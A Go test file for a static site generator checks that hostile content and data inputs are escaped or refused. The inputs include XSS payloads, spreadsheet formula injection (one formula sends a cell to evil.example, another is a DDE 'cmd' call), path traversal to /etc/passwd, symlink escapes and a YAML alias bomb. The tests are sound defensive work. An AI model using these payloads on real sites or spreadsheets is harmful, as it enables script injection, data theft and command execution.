package build

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"
	"golang.org/x/tools/txtar"

	"github.com/tiendo/tiendo/internal/content"
	"github.com/tiendo/tiendo/internal/output"
	"github.com/tiendo/tiendo/internal/table"
)

// Hostile inputs (issue 9): whatever a content file, a data file or the
// config holds, it reaches the output as text, never as markup or script,
// and whatever is too big, too deep, badly encoded or pointing outside the
// site is refused at file:line:col while public/ stays as it was.

// Payloads that would run script if a layout, a chart or a feed let them
// through as markup.
const (
	xssScript = `</script><script>alert(1)</script>`
	xssImg    = `<img src=x onerror=alert(1)>`
	xssSVG    = `<svg onload=alert(1)>`
	xssAttr   = `" onmouseover="alert(1)`
	formula   = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
)

// hostileBase is a small site with everything data can reach: a rate by
// commune (chart with categories, notes), tasks with links, news in the
// feed, a menu and the organisation in the footer.
const hostileBase = `
-- config.toml --
title = "Lộc Hà"
baseURL = "https://example.gov.vn/de-an-06/"
[organisation]
name = "UBND huyện Lộc Hà"
website = "https://locha.example.gov.vn/"
[[menus.main]]
name = "Tin tức"
url = "/tin-tuc/"
weight = 10
[tasks]
planDate = "2023-03-10"
[indicators]
from = "2022-01"
to = "2023-12"
-- data/units.toml --
[[unit]]
id = "cong-an-huyen"
name = "Công an huyện"
short = "Công an"
kind = "huyen"
[[unit]]
id = "xa-a"
name = "Xã An"
short = "An"
kind = "xa"
[[unit]]
id = "xa-binh"
name = "Xã Bình"
short = "Bình"
kind = "xa"
-- data/indicators.toml --
[[group]]
code = "3.4"
title = "Công dân số"
[[indicator]]
id = "ty-le"
title = "Tỷ lệ hồ sơ trực tuyến"
measure = "rate"
baseline = { period = "2022-12", value = 0 }
lead = "cong-an-huyen"
source = "Minh họa"
frequency = "monthly"
file = "chi-tieu/ty-le.csv"
dimension = "commune"
decimals = 1
group = "3.4"
illustrative = true
[[indicator.target]]
value = 80
deadline = "2023-06-30"
-- data/chi-tieu/ty-le.csv --
ky,xa,tu_so,mau_so,ghi_chu
2023-05,xa-a,10,100,
2023-05,xa-binh,90,100,
2023-06,xa-a,1,10,
2023-06,xa-binh,89,90,
-- data/tasks.csv --
ma,nhiem_vu,don_vi_chu_tri,don_vi_phoi_hop,thoi_han,han_cu_the,trang_thai,ngay_hoan_thanh,ket_qua,lien_ket,ghi_chu
1.2,Ban hành kế hoạch,cong-an-huyen,,trước ngày 30/04/2023,,hoàn thành,2023-04-20,,https://example.gov.vn/kh.pdf,
-- content/_index.md --
+++
title = "Trang chủ"
+++
Xem [tin tức](tin-tuc/_index.md).
-- content/tin-tuc/_index.md --
+++
title = "Tin tức"
+++
-- content/tin-tuc/a.md --
+++
title = "Tin một"
date = 2023-06-20
+++
Nội dung.
`

// hostileFiles returns the files of hostileBase with changes applied: a nil
// value removes a file.
func hostileFiles(changes map[string][]byte) map[string][]byte {
	files := map[string][]byte{}
	for _, f := range txtar.Parse([]byte(hostileBase)).Files {
		files[f.Name] = f.Data
	}
	for name, data := range changes {
		if data == nil {
			delete(files, name)
			continue
		}
		files[name] = data
	}
	return files
}

// buildFiles builds files in memory, as buildTxtar does.
func buildFiles(tb testing.TB, files map[string][]byte) *siteTest {
	tb.Helper()
	fsys := fstest.MapFS{}
	for name, data := range files {
		fsys[name] = &fstest.MapFile{Data: data}
	}
	return &siteTest{tb: tb, res: Run(Options{FS: fsys, Sink: output.NewMem(), Now: "2023-06-30", Charts: sharedCharts(tb)})}
}

// replaceIn returns the base file name with old replaced by new, failing
// when old is not there (so a case cannot silently test nothing).
func replaceIn(tb testing.TB, name, old, new string) []byte {
	tb.Helper()
	src := string(hostileFiles(nil)[name])
	if !strings.Contains(src, old) {
		tb.Fatalf("%s has no %q", name, old)
	}
	return []byte(strings.Replace(src, old, new, 1))
}

func TestHostileOutputIsEscaped(t *testing.T) {
	t.Parallel()
	page := "+++\n" +
		"title = " + tomlString(xssScript) + "\n" +
		"description = " + tomlString(xssAttr+xssImg) + "\n" +
		"summary = " + tomlString(xssScript+xssImg) + "\n" +
		"date = 2023-06-25\n" +
		"aliases = [\"/cu/\"]\n" +
		"+++\n" +
		"Nội dung <script>alert(1)</script> và " + xssImg + ".\n\n" +
		"Liên kết tự động: <javascript:alert(1)>\n"
	tasks := "ma,nhiem_vu,don_vi_chu_tri,don_vi_phoi_hop,thoi_han,han_cu_the,trang_thai,ngay_hoan_thanh,ket_qua,lien_ket,ghi_chu\n" +
		"1.2," + csvCell("@SUM(1+1)*cmd|' /C calc'!A0") + ",cong-an-huyen,,trước ngày 30/04/2023,,hoàn thành,2023-04-20," +
		csvCell(xssScript) + "," + csvCell(`https://example.gov.vn/a"onmouseover="alert(1)`) + "," + csvCell(formula) + "\n" +
		"1.3," + csvCell(xssImg) + ",cong-an-huyen,,trước ngày 30/07/2023,,đang thực hiện,,,," + csvCell("-2+3+cmd") + "\n"
	files := hostileFiles(map[string][]byte{
		"content/tin-tuc/xss.md": []byte(page),
		"data/indicators.toml":   replaceIn(t, "data/indicators.toml", `title = "Tỷ lệ hồ sơ trực tuyến"`, "title = "+tomlString(xssScript)),
		"data/units.toml":        replaceIn(t, "data/units.toml", `short = "An"`, "short = "+tomlString(xssSVG)),
		"data/chi-tieu/ty-le.csv": []byte("ky,xa,tu_so,mau_so,ghi_chu\n" +
			"2023-05,xa-a,10,100," + csvCell(formula) + "\n" +
			"2023-05,xa-binh,90,100,+1+1\n" +
			"2023-06,xa-a,1,10," + csvCell(xssScript) + "\n" +
			"2023-06,xa-binh,89,90,-5\n"),
		"data/tasks.csv": []byte(tasks),
	})
	s := buildFiles(t, files).ok()

	t.Run("no payload survives as markup", func(t *testing.T) {
		raw := []string{"<script>alert(1)", "<img src=x", "<svg onload", `" onmouseover="`, `onmouseover="alert`, `href="javascript:`, `src="javascript:`}
		for _, p := range s.res.Output.Paths() {
			switch filepath.Ext(p) {
			case ".html", ".xml", ".svg", ".json":
			default:
				continue
			}
			if p == "tim-kiem/index.json" {
				continue // JSON read with fetch and shown with textContent; checked below
			}
			got := s.file(p)
			for _, r := range raw {
				if strings.Contains(got, r) {
					i := strings.Index(got, r)
					t.Errorf("%s holds %q unescaped: …%s…", p, r, got[max(0, i-80):min(len(got), i+80)])
				}
			}
			if filepath.Ext(p) == ".html" {
				for _, bad := range scriptsIn(got) {
					t.Errorf("%s: %s", p, bad)
				}
			}
		}
	})

	t.Run("page title, description and summary", func(t *testing.T) {
		s.contains("tin-tuc/xss/index.html",
			"<title>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; – Lộc Hà</title>",
			`<meta property="og:title" content="&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;">`,
			`<meta name="description" content="&#34; onmouseover=&#34;alert(1)&lt;img src=x onerror=alert(1)&gt;">`,
			"<h1>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>")
		// Raw HTML in the body is dropped, not escaped into view.
		s.notContains("tin-tuc/xss/index.html", "<script>alert(1)")
		s.contains("tin-tuc/index.html", "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;")
		// The alias page writes the title itself.
		s.contains("cu/index.html", "<title>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>")
	})

	t.Run("autolink with javascript: scheme", func(t *testing.T) {
		// goldmark drops the dangerous destination; the link text stays.
		s.notContains("tin-tuc/xss/index.html", `href="javascript:`)
	})

	t.Run("chart option JSON inside script", func(t *testing.T) {
		html := s.file("chi-tieu/ty-le/index.html")
		opts := regexp.MustCompile(`(?s)<script type="application/json" class="chart-option">(.*?)</script>`).FindAllStringSubmatch(html, -1)
		if len(opts) != 2 {
			t.Fatalf("got %d chart options, want 2 (line and bar)", len(opts))
		}
		for _, m := range opts {
			var o struct {
				Title struct {
					Text string `json:"text"`
				} `json:"title"`
			}
			if err := json.Unmarshal([]byte(m[1]), &o); err != nil {
				t.Fatalf("chart option is not JSON (cut short by </script>?): %v\n%s", err, m[1])
			}
			if !strings.HasPrefix(o.Title.Text, xssScript) {
				t.Errorf("chart title %q, want it to start with %q", o.Title.Text, xssScript)
			}
		}
	})

	t.Run("note cell in the data table", func(t *testing.T) {
		s.contains("chi-tieu/ty-le/index.html", "<td>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td>")
	})

	t.Run("commune name inside the chart SVG", func(t *testing.T) {
		html := s.file("chi-tieu/ty-le/index.html")
		svgs := regexp.MustCompile(`(?s)<svg .*?</svg>`).FindAllString(html, -1)
		found := false
		for _, svg := range svgs {
			if err := wellFormed(svg); err != nil {
				t.Errorf("chart SVG is not well-formed: %v", err)
			}
			// A long name wraps at its spaces, one text element a line.
			found = found || strings.Contains(svg, "&lt;svg onload=alert(1)&gt;") ||
				strings.Contains(svg, ">&lt;svg") && strings.Contains(svg, ">onload=alert(1)&gt;</text>")
		}
		if !found {
			t.Errorf("no chart SVG shows the commune name as text &lt;svg onload=alert(1)&gt;")
		}
	})

	t.Run("task link and result", func(t *testing.T) {
		s.contains("nhiem-vu/index.html",
			`href="https://example.gov.vn/a%22onmouseover=%22alert%281%29"`,
			"&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")
	})

	t.Run("formula cells in downloads", func(t *testing.T) {
		for _, tc := range []struct {
			file  string
			cells []string
		}{
			{"chi-tieu/ty-le/ty-le.csv", []string{"'" + formula, "'+1+1", xssScript}},
			{"nhiem-vu/nhiem-vu.csv", []string{"'@SUM(1+1)*cmd|' /C calc'!A0", "'" + formula, "'-2+3+cmd"}},
		} {
			rows := readDownload(t, s.file(tc.file))
			var all []string
			for _, r := range rows {
				for _, c := range r {
					all = append(all, c)
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
						t.Errorf("%s: cell %q would run as a formula", tc.file, c)
					}
				}
			}
			for _, want := range tc.cells {
				if !slices.Contains(all, want) {
					t.Errorf("%s has no cell %q; cells: %q", tc.file, want, all)
				}
			}
			// A plain negative number stays a number.
			if tc.file == "chi-tieu/ty-le/ty-le.csv" && !slices.Contains(all, "-5") {
				t.Errorf("%s: the note -5 was changed: %q", tc.file, all)
			}
		}
	})

	t.Run("search index", func(t *testing.T) {
		if _, ok := s.res.Output.Files["tim-kiem/index.json"]; !ok {
			t.Skip("no search index in this build")
		}
		var v any
		if err := json.Unmarshal([]byte(s.file("tim-kiem/index.json")), &v); err != nil {
			t.Fatalf("search index is not JSON: %v", err)
		}
		// Kept verbatim: search.js puts every string in the page with textContent.
		s.contains("tim-kiem/index.json", xssScript)
	})

	t.Run("feeds are well-formed", func(t *testing.T) {
		for _, f := range []string{"atom.xml", "sitemap.xml"} {
			if err := wellFormed(s.file(f)); err != nil {
				t.Errorf("%s: %v", f, err)
			}
		}
		var feed struct {
			Entries []struct {
				Title   string `xml:"title"`
				Summary string `xml:"summary"`
			} `xml:"entry"`
		}
		if err := xml.Unmarshal([]byte(s.file("atom.xml")), &feed); err != nil {
			t.Fatal(err)
		}
		if len(feed.Entries) == 0 || feed.Entries[0].Title != xssScript || feed.Entries[0].Summary != xssScript+xssImg {
			t.Errorf("atom entries %+v, want the title and summary as text", feed.Entries)
		}
	})
}

// TestHostileXMLTitle: a title that ends a CDATA section or starts an
// entity, and a control character XML 1.0 forbids, leave atom.xml and
// sitemap.xml well-formed.
func TestHostileXMLTitle(t *testing.T) {
	t.Parallel()
	title := "Tin ]]> & <b>đậm</b> &amp; \"q\" 'a' \x01\x0b"
	s := buildFiles(t, hostileFiles(map[string][]byte{
		"content/tin-tuc/a.md": []byte("+++\ntitle = " + tomlString(title) + "\ndate = 2023-06-20\n+++\n" + "]]> & <![CDATA[ x\n"),
	})).ok()
	for _, f := range []string{"atom.xml", "sitemap.xml"} {
		if err := wellFormed(s.file(f)); err != nil {
			t.Errorf("%s: %v\n%s", f, err, s.file(f))
		}
	}
	s.contains("atom.xml", "<title>Tin ]]&gt; &amp; &lt;b&gt;đậm&lt;/b&gt; &amp;amp; &#34;q&#34; &#39;a&#39;")
}

// hostileError is a hostile input that must be refused.
type hostileError struct {
	name string
	// changes to the base site; symlinks maps a path to the target of a
	// symbolic link made there (disk only).
	changes  map[string][]byte
	symlinks map[string]string
	wants    []string
	// skip names a known defect while it is being fixed; HOSTILE_NOSKIP=1
	// runs the case anyway.
	skip string
}

func hostileErrors(t *testing.T, outside string) []hostileError {
	huge := bytes.Repeat([]byte("Dòng nội dung của một trang rất dài.\n"), content.MaxFileSize/30)
	bigCSV := append([]byte("ky,xa,tu_so,mau_so,ghi_chu\n"), bytes.Repeat([]byte("2023-05,xa-a,10,100,\n"), table.DefaultMaxBytes/20)...)
	longLine := "ky,xa,tu_so,mau_so,ghi_chu\n2023-05,xa-a,10,100,\n2023-06,xa-a,1,10," + strings.Repeat("x", table.DefaultMaxLineLength+1) + "\n"
	page := func(fm, body string) []byte { return []byte("+++\ntitle = \"A\"\n" + fm + "+++\n" + body) }
	return []hostileError{
		// 1. Scripts in URLs.
		{name: "javascript: link in Markdown", changes: map[string][]byte{"content/a.md": page("", "Xem [đây](javascript:alert(1)).\n")},
			wants: []string{`content/a.md:4:5: liên kết dạng "javascript:" không được phép`}},
		{name: "JavaScript: link in upper case", changes: map[string][]byte{"content/a.md": page("", "[x](JaVaScRiPt:alert(1))\n")},
			wants: []string{`content/a.md:4:1: liên kết dạng "javascript:" không được phép`}},
		{name: "javascript: image", changes: map[string][]byte{"content/a.md": page("", "Ảnh: ![ảnh](javascript:alert(1))\n")},
			wants: []string{`content/a.md:4:6: liên kết dạng "javascript:" không được phép`}},
		{name: "javascript: reference link", changes: map[string][]byte{"content/a.md": page("", "[x][r]\n\n[r]: javascript:alert(1)\n")},
			wants: []string{`content/a.md:4:1: liên kết dạng "javascript:" không được phép`}},
		{name: "data: link", changes: map[string][]byte{"content/a.md": page("", "[x](data:text/html;base64,PHNjcmlwdD4=)\n")},
			wants: []string{`content/a.md:4:1: liên kết dạng "data:" không được phép`}},
		{name: "javascript: menu url in config.toml",
			changes: map[string][]byte{"config.toml": replaceIn(t, "config.toml", `url = "/tin-tuc/"`, `url = "javascript:alert(1)"`)},
			wants:   []string{`config.toml:8:1: menu "main": địa chỉ "javascript:alert(1)" không được phép`}},
		{name: "javascript: organisation website",
			changes: map[string][]byte{"config.toml": replaceIn(t, "config.toml", `website = "https://locha.example.gov.vn/"`, `website = "javascript:alert(1)"`)},
			wants:   []string{`config.toml:5:1: organisation.website "javascript:alert(1)" không được phép`}},
		{name: "javascript: task link in tasks.csv",
			changes: map[string][]byte{"data/tasks.csv": replaceIn(t, "data/tasks.csv", "https://example.gov.vn/kh.pdf", "javascript:alert(1)")},
			wants:   []string{`data/tasks.csv:2:84: liên kết “javascript:alert(1)” không hợp lệ`}},

		// 2. Limits.
		{name: "content file over content.MaxFileSize", changes: map[string][]byte{"content/lon.md": append(page("", ""), huge...)},
			wants: []string{"content/lon.md: tệp quá lớn"}},
		{name: "CSV over table.DefaultMaxBytes", changes: map[string][]byte{"data/chi-tieu/ty-le.csv": bigCSV},
			wants: []string{"data/chi-tieu/ty-le.csv: Tệp quá lớn"}},
		{name: "CSV line over table.DefaultMaxLineLength", changes: map[string][]byte{"data/chi-tieu/ty-le.csv": []byte(longLine)},
			wants: []string{"data/chi-tieu/ty-le.csv:3: Dòng dài quá giới hạn"}},
		{name: "Markdown nested 200,000 deep", changes: map[string][]byte{"content/a.md": page("", "Đầu.\n\n"+strings.Repeat(">", 200_000)+" x\n")},
			wants: []string{"content/a.md:6:", "lồng"}},
		{name: "TOML nested 100,000 deep in front matter", changes: map[string][]byte{"content/a.md": page("description = "+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)+"\n", "")},
			wants: []string{"content/a.md:3:47: giá trị lồng nhau quá sâu"}},
		{name: "TOML inline tables nested 10,000 deep in units.toml",
			changes: map[string][]byte{"data/units.toml": []byte("x = " + strings.Repeat("{a=", 10_000) + "1" + strings.Repeat("}", 10_000) + "\n")},
			wants:   []string{"data/units.toml:1:101: giá trị lồng nhau quá sâu"}},
		{name: "YAML alias bomb in front matter",
			changes: map[string][]byte{"content/a.md": []byte("---\ntitle: A\ndate: " + yamlBomb() + "\n---\n")},
			wants:   []string{`content/a.md:3:7: giá trị của khóa "date" sai kiểu`}},

		// 3. Encoding.
		{name: "invalid UTF-8 in a Markdown file", changes: map[string][]byte{"content/a.md": page("", "Xin chào\nđây là \xff\xfe\n")},
			wants: []string{"content/a.md:5:8: tệp không phải văn bản UTF-8 hợp lệ"}},
		{name: "NUL byte in a Markdown file", changes: map[string][]byte{"content/a.md": page("", "Xin chào \x00\n")},
			wants: []string{"content/a.md:4:10: tệp không phải văn bản UTF-8 hợp lệ"}},
		{name: "invalid UTF-8 in a CSV", changes: map[string][]byte{"data/chi-tieu/ty-le.csv": []byte("ky,xa,tu_so,mau_so,ghi_chu\n2023-05,xa-a,10,100,Đã kiểm tra\n2023-06,xa-a,1,10,l\xf4i\n")},
			wants: []string{"data/chi-tieu/ty-le.csv:3:", "Tệp không phải CSV UTF-8 hợp lệ"}},
		{name: "NUL byte in a CSV", changes: map[string][]byte{"data/chi-tieu/ty-le.csv": []byte("ky,xa,tu_so,mau_so,ghi_chu\n2023-05,xa-a,10,100,\x00\n")},
			wants: []string{"data/chi-tieu/ty-le.csv:2:", "Tệp không phải CSV UTF-8 hợp lệ"}},
		{name: "invalid UTF-8 in units.toml",
			changes: map[string][]byte{"data/units.toml": replaceIn(t, "data/units.toml", `name = "Xã An"`, "name = \"X\xe3 An\"")},
			wants:   []string{"data/units.toml:8:10: tệp không phải văn bản UTF-8 hợp lệ"}},
		{name: "NUL byte in config.toml",
			changes: map[string][]byte{"config.toml": replaceIn(t, "config.toml", `title = "Lộc Hà"`, "title = \"L\x00\"")},
			wants:   []string{"config.toml:1:11: tệp có ký tự điều khiển U+0000"}},

		// 4. Paths leading outside the site.
		{name: "slug with ../", changes: map[string][]byte{"content/a.md": page("slug = \"../../x\"\n", "")},
			wants: []string{`content/a.md:3:1: slug "../../x" không hợp lệ`}},
		{name: "alias with ../", changes: map[string][]byte{"content/a.md": page("aliases = [\"/ok/\", \"../../etc\"]\n", "")},
			wants: []string{`content/a.md:3:20: alias "../../etc" không hợp lệ`}},
		{name: "alias with a scheme", changes: map[string][]byte{"content/a.md": page("aliases = [\"https://evil.example/\"]\n", "")},
			wants: []string{`content/a.md:3:12: alias "https://evil.example/" không hợp lệ`}},
		{name: "layout with ../", changes: map[string][]byte{"content/a.md": page("layout = \"../../../etc/passwd\"\n", "")},
			wants: []string{`content/a.md:`, `không có mẫu giao diện "../../../etc/passwd.html"`}},
		{name: "indicator file with ../",
			changes: map[string][]byte{"data/indicators.toml": replaceIn(t, "data/indicators.toml", `file = "chi-tieu/ty-le.csv"`, `file = "../../etc/passwd"`)},
			wants:   []string{`data/indicators.toml:12:1: đường dẫn "../../etc/passwd" ra ngoài thư mục data/`}},
		{name: "indicator file absolute",
			changes: map[string][]byte{"data/indicators.toml": replaceIn(t, "data/indicators.toml", `file = "chi-tieu/ty-le.csv"`, `file = "/etc/passwd"`)},
			wants:   []string{`data/indicators.toml:12:1: đường dẫn "/etc/passwd" là đường dẫn tuyệt đối`}},
		{name: "menu page with ../",
			changes: map[string][]byte{"config.toml": replaceIn(t, "config.toml", `url = "/tin-tuc/"`, `page = "../../etc/passwd"`)},
			wants:   []string{`config.toml:`, `menu "main" trỏ tới trang không tồn tại ../../etc/passwd`}},
		{name: "menu page with ../ at its line",
			changes: map[string][]byte{"config.toml": replaceIn(t, "config.toml", `url = "/tin-tuc/"`, `page = "../../etc/passwd"`)},
			wants:   []string{`config.toml:8:1: menu "main" trỏ tới trang không tồn tại ../../etc/passwd`}},
		{name: "symlink in content/ to a file outside the site", symlinks: map[string]string{"content/ngoai.md": filepath.Join(outside, "secret.md")},
			wants: []string{"content/ngoai.md: liên kết tượng trưng (symlink) không được dùng trong content/"}},
		{name: "symlinked folder in content/", symlinks: map[string]string{"content/ngoai": outside},
			wants: []string{"content/ngoai: liên kết tượng trưng (symlink) không được dùng trong content/"}},
		{name: "symlink in data/ to a file outside the site", symlinks: map[string]string{"data/chi-tieu/ty-le.csv": filepath.Join(outside, "secret.csv")},
			wants: []string{"data/chi-tieu/ty-le.csv:", "liên kết tượng trưng"}},
		{name: "data/units.toml a symlink outside the site", symlinks: map[string]string{"data/units.toml": filepath.Join(outside, "units.toml")},
			wants: []string{"data/units.toml:", "liên kết tượng trưng"}},
		{name: "symlink in layouts/ to a file outside the site", symlinks: map[string]string{"layouts/single.html": filepath.Join(outside, "single.html")},
			wants: []string{"layouts/single.html:", "liên kết tượng trưng"}},
		{name: "symlink in static/ to a file outside the site", symlinks: map[string]string{"static/bi-mat.txt": filepath.Join(outside, "secret.md")},
			wants: []string{"static/bi-mat.txt:", "liên kết tượng trưng"}},

		// 5. A panic in a layout function names the page.
		{name: "layout function that panics", changes: map[string][]byte{
			"layouts/single.html": []byte("{{ define \"main\" }}\n{{ range seq -1 }}{{ end }}\n{{ end }}\n"),
			"content/a.md":        page("", "")},
			wants: []string{"layouts/single.html:2:", "content/a.md"}},
	}
}

// TestHostileInputsRefused builds each hostile site in memory, then on disk
// over a public/ from a good build: the error names the file (and line and
// column where there is one), and public/ is left exactly as it was.
func TestHostileInputsRefused(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	for name, data := range map[string]string{
		"secret.md":   "+++\ntitle = \"Bí mật\"\n+++\nmật khẩu\n",
		"secret.csv":  "ky,xa,tu_so,mau_so,ghi_chu\n2023-05,xa-a,1,2,mật khẩu\n",
		"units.toml":  "[[unit]]\nid = \"xa-a\"\nname = \"Xã An\"\nshort = \"An\"\nkind = \"xa\"\n",
		"single.html": "{{ define \"main\" }}bí mật{{ end }}\n",
	} {
		if err := os.WriteFile(filepath.Join(outside, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	// One good build on disk, its public/ copied for each case. The charts
	// are kept in the package's shared cache, so that a case which gets as
	// far as drawing them draws none.
	good := t.TempDir()
	writeFiles(t, good, hostileFiles(nil))
	if res := Run(Options{Source: good, Now: "2023-06-30", Charts: sharedCharts(t)}); !res.OK() {
		t.Fatalf("good build failed:\n%s", res.Diags.Format("vi"))
	}
	before := snapshot(t, filepath.Join(good, "public"))

	for _, tc := range hostileErrors(t, outside) {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if tc.skip != "" && os.Getenv("HOSTILE_NOSKIP") == "" {
				t.Skip("defect: " + tc.skip)
			}
			files := hostileFiles(tc.changes)
			if len(tc.symlinks) == 0 {
				buildFiles(t, files).failsWith(tc.wants...)
			}

			dir := t.TempDir()
			writeFiles(t, dir, files)
			writeFiles(t, filepath.Join(dir, "public"), toBytes(before))
			for link, target := range tc.symlinks {
				p := filepath.Join(dir, filepath.FromSlash(link))
				_ = os.Remove(p)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(target, p); err != nil {
					t.Skipf("cannot make a symbolic link here: %v", err)
				}
			}
			res := Run(Options{Source: dir, Now: "2023-06-30", Charts: sharedCharts(t)})
			st := &siteTest{tb: t, res: res}
			st.failsWith(tc.wants...)
			after := snapshot(t, filepath.Join(dir, "public"))
			if !maps.Equal(before, after) {
				t.Errorf("public/ changed after a refused build: %d files before, %d after", len(before), len(after))
			}
			for _, leak := range []string{"mật khẩu", "bí mật"} {
				for p, data := range after {
					if strings.Contains(data, leak) {
						t.Errorf("public/%s holds %q from outside the site", p, leak)
					}
				}
			}
		})
	}
}

// TestHostileNesting: nesting 10,000 deep builds or is refused at its
// line — quickly either way, and without a crash.
func TestHostileNesting(t *testing.T) {
	// These inputs test the nesting limits, not the parse budget (which
	// TestHostileMarkdownTooComplexIsAnError tests with a budget that
	// leaves nothing to timing): under -race on a busy machine, 10,000
	// brackets take more than two seconds of wall clock, so the budget is
	// off here.
	t.Parallel()
	config := []byte("title = \"T\"\n[markup]\nparseBudget = \"0s\"\n")
	for _, tc := range []struct{ name, body, want, skip string }{
		{"block quotes", strings.Repeat(">", 10_000) + " trích dẫn\n", "<blockquote>", ""},
		{"lists", strings.Repeat("- ", 10_000) + "mục\n", "<li>", ""},
		{"ordered lists", strings.Repeat("1. ", 10_000) + "mục\n", "<li>", ""},
		{"brackets", strings.Repeat("[", 10_000) + "x" + strings.Repeat("]", 10_000) + "\n", "[[[x]]]", ""},
		{"emphasis", strings.Repeat("*_", 5_000) + "x" + strings.Repeat("_*", 5_000) + "\n", "<em>", ""},
		{"100,000 links on one line", strings.Repeat("[a](mailto:a@b.vn) ", 100_000) + "\n", `<a href="mailto:a@b.vn">`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.skip != "" && os.Getenv("HOSTILE_NOSKIP") == "" {
				t.Skip("defect: " + tc.skip)
			}
			s := buildFiles(t, map[string][]byte{"config.toml": config, "content/a.md": []byte("+++\ntitle = \"A\"\n+++\n" + tc.body)})
			if !s.res.OK() {
				s.failsWith("content/a.md:4:", "lồng")
				return
			}
			s.contains("a/index.html", tc.want)
		})
	}
}

// TestHostileHeadingAttributes: the {#id .class} syntax of headings may
// not carry an event handler or a style (the pages' CSP forbids inline
// styles), nor give two elements one id.
func TestHostileHeadingAttributes(t *testing.T) {
	t.Parallel()
	page := func(body string) map[string][]byte {
		return map[string][]byte{"content/a.md": []byte("+++\ntitle = \"A\"\n+++\n" + body)}
	}
	t.Run("event handler", func(t *testing.T) {
		s := buildFiles(t, page("## Mục {onclick=\"alert(1)\" .lop}\n")).ok()
		s.contains("a/index.html", `class="lop"`) // the attributes were read
		for _, bad := range scriptsIn(s.file("a/index.html")) {
			t.Error(bad)
		}
	})
	t.Run("style", func(t *testing.T) {
		s := buildFiles(t, page("## Mục {style=\"color:red\" .lop}\n")).ok()
		s.contains("a/index.html", `class="lop"`)
		for _, a := range attrsIn(s.file("a/index.html")) {
			if a.Key == "style" {
				t.Errorf("style attribute %q", a.Val)
			}
		}
	})
	t.Run("empty and repeated ids", func(t *testing.T) {
		s := buildFiles(t, page("## A {#}\n## B {#x}\n## C {#x}\n"))
		if !s.res.OK() {
			s.failsWith("content/a.md:4:")
			return
		}
		html := s.file("a/index.html")
		if strings.Contains(html, `id=""`) || strings.Count(html, `id="x"`) != 1 {
			t.Errorf("empty or repeated heading ids:\n%s", html)
		}
	})
}

// yamlBomb is a flow sequence defining nine levels of aliases, each nine
// times the last: 9⁹ strings if expanded.
func yamlBomb() string {
	var b strings.Builder
	b.WriteString("[&a [x, x, x, x, x, x, x, x, x]")
	prev := "a"
	for _, c := range "bcdefghi" {
		b.WriteString(", &" + string(c) + " [")
		for i := range 9 {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString("*" + prev)
		}
		b.WriteString("]")
		prev = string(c)
	}
	b.WriteString("]")
	return b.String()
}

// tomlString quotes s as a TOML basic string.
func tomlString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r == 0x7f:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// csvCell quotes s as a CSV cell.
func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// readDownload parses a CSV download: UTF-8 with a byte order mark.
func readDownload(tb testing.TB, data string) [][]string {
	tb.Helper()
	if !strings.HasPrefix(data, "\uFEFF") {
		tb.Errorf("download has no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(data, "\uFEFF"))).ReadAll()
	if err != nil {
		tb.Fatalf("download is not CSV: %v", err)
	}
	return rows
}

var numberRe = regexp.MustCompile(`^[+-]?[0-9]+([.,][0-9]+)*([eE][+-]?[0-9]+)?$`)

func isNumber(s string) bool { return numberRe.MatchString(s) }

// attrsIn returns every attribute of every element of an HTML document.
func attrsIn(doc string) []html.Attribute {
	var out []html.Attribute
	z := html.NewTokenizer(strings.NewReader(doc))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out
		case html.StartTagToken, html.SelfClosingTagToken:
			out = append(out, z.Token().Attr...)
		}
	}
}

// scriptsIn lists what in an HTML document could run script other than the
// theme's own: a script element without src that is not JSON data, an
// event handler attribute, a javascript: or vbscript: URL.
func scriptsIn(doc string) []string {
	var out []string
	z := html.NewTokenizer(strings.NewReader(doc))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			attr := map[string]string{}
			for _, a := range tok.Attr {
				attr[a.Key] = a.Val
				if strings.HasPrefix(a.Key, "on") {
					out = append(out, fmt.Sprintf("<%s %s=%q>", tok.Data, a.Key, a.Val))
				}
				u := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1 // as a browser reads a URL
					}
					return r
				}, a.Val))
				if (a.Key == "href" || a.Key == "src" || a.Key == "action") && (strings.HasPrefix(u, "javascript:") || strings.HasPrefix(u, "vbscript:")) {
					out = append(out, fmt.Sprintf("<%s %s=%q>", tok.Data, a.Key, a.Val))
				}
			}
			if tok.Data == "script" && attr["src"] == "" && attr["type"] != "application/json" && attr["type"] != "application/ld+json" {
				out = append(out, "<script> without src")
			}
		}
	}
}

